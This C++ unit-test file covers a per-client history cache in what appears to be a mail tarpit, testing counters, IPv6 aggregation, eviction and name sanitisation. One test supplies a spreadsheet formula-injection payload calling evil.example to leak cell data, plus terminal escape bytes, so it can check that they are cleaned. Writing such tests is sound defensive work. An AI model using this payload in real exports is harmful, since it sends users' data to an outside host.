#include <gtest/gtest.h>

#include "base/metrics.h"
#include "peer/cache.h"

namespace peer {
namespace {

TEST(PeerCache, SeedThenUpdateAccumulates) {
  Cache m(Cache::kEntryBytes * 1000);
  auto ip = *base::IpAddress::Parse("198.51.100.4");
  EXPECT_EQ(m.Lookup(ip).connections, 0u);
  History seeded;
  seeded.connections = 7;
  seeded.messages = 3;
  seeded.early_talker = 1;
  m.Seed(ip, seeded);
  SessionSummary r;
  r.client = ip;
  r.messages = 2;
  r.early_talker = true;
  r.bare_lf = 4;
  r.protocol_errors = 1;
  r.duration_seconds = 1.5;
  m.Update(r);
  auto h = m.Lookup(ip);
  EXPECT_EQ(h.connections, 8u);
  EXPECT_EQ(h.messages, 5u);
  EXPECT_EQ(h.early_talker, 2u);
  EXPECT_EQ(h.bare_lf, 4u);
  EXPECT_EQ(h.protocol_errors, 1u);
  EXPECT_DOUBLE_EQ(h.seconds_held, 1.5);
  EXPECT_EQ(m.Lookup(*base::IpAddress::Parse("198.51.100.5")).connections, 0u);
}

// A host rotating addresses within its /64 keeps the /64's history; with
// ipv6_prefix 128 each address is a stranger. IPv4 is never aggregated.
TEST(PeerCache, Ipv6ClientsAreKnownPerNetwork) {
  auto ip = [](const char* t) { return *base::IpAddress::Parse(t); };
  SessionSummary r;
  r.client = ip("2001:db8:5:6::1");
  r.messages = 3;
  Cache per64(Cache::kEntryBytes * 1000, 64);
  per64.Update(r);
  EXPECT_EQ(per64.Lookup(ip("2001:db8:5:6:aaaa::9")).messages, 3u);
  EXPECT_EQ(per64.Lookup(ip("2001:db8:5:7::1")).messages, 0u);
  EXPECT_EQ(per64.size(), 1u);
  Cache per128(Cache::kEntryBytes * 1000, 128);
  per128.Update(r);
  EXPECT_EQ(per128.Lookup(ip("2001:db8:5:6:aaaa::9")).messages, 0u);
  r.client = ip("198.51.100.1");
  per64.Update(r);
  EXPECT_EQ(per64.Lookup(ip("198.51.100.2")).messages, 0u);
}

TEST(PeerCache, StaysBounded) {
  Cache m(Cache::kEntryBytes * 16 * 4);  // 4 per shard
  SessionSummary r;
  for (uint32_t i = 0; i < 10000; ++i) {
    r.client = base::IpAddress::FromV4(0x0a000000u + i);
    m.Update(r);
  }
  EXPECT_LE(m.size(), 16u * 4);
  EXPECT_EQ(m.evictions(), 10000u - m.size());
}

// A full cache used to clear a whole shard: an IPv6 rotation (one session
// per address) made the tarpit forget its worst senders. Now a new address
// replaces the least evidence seen least recently, and the heavy senders
// stay known.
TEST(PeerCache, RotationDoesNotForgetTheWorstSenders) {
  Cache m(Cache::kEntryBytes * 1024);
  SessionSummary heavy;
  heavy.messages = 10;
  heavy.early_talker = true;
  for (int round = 0; round < 5; ++round) {
    for (uint32_t i = 0; i < 200; ++i) {
      heavy.client = base::IpAddress::FromV4(0xc6336400u + i);
      m.Update(heavy);
    }
  }
  SessionSummary once;
  for (uint32_t i = 0; i < 50000; ++i) {
    std::array<uint8_t, 16> b{0x20, 0x01, 0x0d, 0xb8};
    b[12] = uint8_t(i >> 24), b[13] = uint8_t(i >> 16);
    b[14] = uint8_t(i >> 8), b[15] = uint8_t(i);
    once.client = base::IpAddress::FromV6(b);
    m.Update(once);
  }
  EXPECT_LE(m.size(), m.capacity());
  int known = 0;
  for (uint32_t i = 0; i < 200; ++i) {
    known += m.Lookup(base::IpAddress::FromV4(0xc6336400u + i)).messages == 50;
  }
  EXPECT_GE(known, 190);
}

// A refresh from the fleet's ledger seeds an address again: counters are
// raised to the ledger's, never lowered (local sessions not committed yet
// stay), never added (committed ones are in both).
TEST(PeerCache, SeedAgainRaisesNeverLowersNorAdds) {
  Cache m(Cache::kEntryBytes * 1000);
  auto ip = *base::IpAddress::Parse("198.51.100.5");
  History a;
  a.connections = 3;
  a.messages = 9;
  m.Seed(ip, a);
  History b;
  b.connections = 5;
  b.messages = 2;
  b.early_talker = 1;
  m.Seed(ip, b);
  auto h = m.Lookup(ip);
  EXPECT_EQ(h.connections, 5u);
  EXPECT_EQ(h.messages, 9u);
  EXPECT_EQ(h.early_talker, 1u);
}

TEST(PeerCache, SeedLoadsOnlyWhatFitsAndTheGaugeFollows) {
  int64_t bytes0 = base::g_peer_cache_bytes.load();
  int64_t budget0 = base::g_peer_cache_budget_bytes.load();
  {
    Cache m(Cache::kEntryBytes * 16 * 8);
    EXPECT_EQ(base::g_peer_cache_budget_bytes.load() - budget0,
              int64_t(Cache::kEntryBytes * 16 * 8));
    History h;
    h.messages = 1;
    int accepted = 0, refused = 0;
    for (uint32_t i = 0; i < 1000; ++i) {
      (m.Seed(base::IpAddress::FromV4(0x0a000000u + i), h) ? accepted
                                                           : refused)++;
    }
    EXPECT_EQ(size_t(accepted), m.size());
    EXPECT_LE(m.size(), m.capacity());
    EXPECT_GT(refused, 0);
    EXPECT_EQ(base::g_peer_cache_bytes.load() - bytes0,
              int64_t(m.size() * Cache::kEntryBytes));
  }
  EXPECT_EQ(base::g_peer_cache_bytes.load(), bytes0);
  EXPECT_EQ(base::g_peer_cache_budget_bytes.load(), budget0);
}

// What an attacker sends as HELO or a domain is stored short and clean:
// no control bytes, no spaces, no formula characters (the security review
// stored 255 raw bytes per name, control bytes included).
TEST(PeerSummary, NamesAreCleanedOnArrival) {
  std::vector<NameCount> names;
  AddName(&names, "=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")");
  AddName(&names, std::string("a\x1b[31m\x07\x00b\r\nc", 12));
  AddName(&names, std::string(255, 'X'));
  AddName(&names, "[192.0.2.1]");
  AddName(&names, "Mail.Example.COM");
  ASSERT_EQ(names.size(), 5u);
  EXPECT_EQ(names[0].name[0], '?');
  for (const auto& n : names) {
    EXPECT_LE(n.name.size(), kMaxNameLength);
    for (char c : n.name) {
      EXPECT_TRUE(c > ' ' && c < 0x7f && c != '=' && c != '"' && c != '(')
          << n.name;
    }
  }
  EXPECT_EQ(names[3].name, "[192.0.2.1]");
  EXPECT_EQ(names[4].name, "mail.example.com");
  EXPECT_EQ(CleanName("<>"), "<>");
}

}  // namespace
}  // namespace peer

namespace peer {
namespace {

TEST(PeerHistory, MergeCountsOneSessionAndAddSums) {
  SessionSummary s;
  s.messages = 3;
  s.early_talker = true;
  s.bare_lf = 2;
  s.protocol_errors = 5;
  s.duration_seconds = 0.25;
  History h;
  Merge(&h, s);
  Merge(&h, s);
  EXPECT_EQ(h.connections, 2u);
  EXPECT_EQ(h.messages, 6u);
  EXPECT_EQ(h.early_talker, 2u);
  EXPECT_EQ(h.bare_lf, 4u);
  EXPECT_EQ(h.protocol_errors, 10u);
  EXPECT_DOUBLE_EQ(h.seconds_held, 0.5);
  History sum;
  Add(&sum, h);
  Add(&sum, h);
  EXPECT_EQ(sum.connections, 4u);
  EXPECT_DOUBLE_EQ(sum.seconds_held, 1.0);
}

TEST(PeerSummary, NamesAreCappedAndCloseReasonsNamed) {
  std::vector<NameCount> names;
  for (int i = 0; i < 20; ++i) AddName(&names, "n" + std::to_string(i % 10));
  EXPECT_EQ(names.size(), kMaxNames);
  EXPECT_EQ(names[0].count, 2u);
  AddName(&names, std::string(1000, 'x'));
  for (const auto& n : names) EXPECT_LE(n.name.size(), kMaxNameLength);
  for (int i = 0; i < kNumCloseReasons; ++i) {
    EXPECT_STRNE(CloseReasonName(CloseReason(i)), "unknown");
  }
}

}  // namespace
}  // namespace peer
